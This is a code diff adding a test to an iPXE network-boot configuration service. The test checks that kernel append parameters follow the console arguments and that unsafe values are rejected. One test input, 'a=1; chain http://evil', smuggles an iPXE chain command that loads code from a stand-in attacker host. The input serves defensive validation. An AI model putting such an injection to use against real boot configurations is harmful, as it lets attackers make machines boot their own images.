@@ -125,6 +125,27 @@ describe('network boot (iPXE)', () => {
     );
   });
 
+  it("appends the node's kernel_append_params after the console args, and refuses unsafe ones", async () => {
+    ok(
+      await harness.send('image.pxe_config', {
+        macs: ['52:54:00:00:02:02'],
+        kernel_params: {},
+        kernel_append: 'ipa-advertise-host=127.0.0.1 ipa-advertise-port=5000 nomodeset',
+      }),
+    );
+    const { body } = await script('/ipxe/52-54-00-00-02-02.ipxe');
+    expect(body).toContain(
+      'BOOTIF=01-${mac:hexhyp} console=tty0 console=ttyS0,115200 ipa-advertise-host=127.0.0.1 ipa-advertise-port=5000 nomodeset || goto retry',
+    );
+    expect(
+      await harness.send('image.pxe_config', {
+        macs: ['52:54:00:00:02:03'],
+        kernel_params: {},
+        kernel_append: 'a=1; chain http://evil',
+      }),
+    ).toMatchObject({ ok: false, error: { kind: 'invalid' } });
+  });
+
   it('keeps the configs across a restart, and a new config replaces the old one', async () => {
     const mac = '52:54:00:00:03:01';
     ok(
